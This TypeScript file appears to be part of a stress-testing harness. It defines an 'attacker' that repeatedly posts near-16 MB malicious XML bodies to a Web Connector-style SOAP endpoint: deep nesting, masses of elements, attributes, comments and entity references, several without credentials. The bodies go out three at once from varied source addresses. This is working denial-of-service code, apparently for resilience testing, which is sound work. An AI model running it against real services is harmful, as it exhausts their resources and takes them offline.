import { post } from '../http.js';
import { type Attacker, address, again, atOnce } from './attacker.js';

const BLOCK = 2;
/** Just below what the Web Connector's address takes at all. */
const BYTES = 16 * 1_048_576 - 2_048;
const AT_ONCE = 3;

const HEAD = '<?xml version="1.0"?><e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>';
const FOOT = '</e:Body></e:Envelope>';
const envelope = (content: string): Buffer => Buffer.from(`${HEAD}${content}${FOOT}`);

const fill = (piece: string): string => piece.repeat(Math.floor(BYTES / piece.length));
const operation = (name: string, content: string): string =>
  `<${name} xmlns="http://developer.intuit.com/">${content}</${name}>`;
const TICKET = '<ticket>00000000-0000-0000-0000-000000000000</ticket>';

type Shape = { name: string; body: Buffer; isChunked?: boolean };

function attributes(): string {
  const names: string[] = [];
  for (let bytes = 0, index = 0; bytes < BYTES; index += 1) {
    const next = ` a${index}=""`;
    names.push(next);
    bytes += next.length;
  }
  return `<a${names.slice(0, -1).join('')}/>`;
}

function nested(): string {
  const depth = Math.floor(BYTES / 7);
  return '<a>'.repeat(depth) + '</a>'.repeat(depth);
}

/** Well-formed bodies that cost more to read than to send; nobody has a password. */
const shapes = (): Shape[] => [
  { name: 'elements', body: envelope(fill('<a/>')) },
  { name: 'elements in pieces', body: envelope(fill('<a/>')), isChunked: true },
  { name: 'elements in an operation', body: envelope(operation('authenticate', fill('<a/>'))) },
  { name: 'nesting', body: envelope(nested()) },
  { name: 'attributes', body: envelope(attributes()) },
  { name: 'comments', body: envelope(fill('<!---->')) },
  { name: 'references', body: envelope(operation('authenticate', `<strUserName>${fill('&#60;')}</strUserName>`)) },
  {
    name: 'sendRequestXML of nobody',
    body: envelope(operation('sendRequestXML', `${TICKET}<strHCPResponse>${fill('&lt;a/&gt;')}</strHCPResponse>`)),
  },
  {
    name: 'receiveResponseXML of nobody',
    body: envelope(operation('receiveResponseXML', `${TICKET}<response>${fill('&lt;a/&gt;')}</response>`)),
  },
];

/** One shape after the other, three at once. */
export const bombs: Attacker = async ({ url }, note, signal) => {
  const all = shapes();
  let next = 0;
  await again(signal, note, 250, async () => {
    const { name, body, isChunked } = all[next++ % all.length] as Shape;
    await atOnce(AT_ONCE, async (index) => {
      const outcome = await post(url, address(BLOCK, index), body, isChunked).then(
        ({ status }) => String(status),
        (error: Error) => ('code' in error ? String(error.code) : error.message),
      );
      note(`${name} ${outcome}`);
    });
  });
};
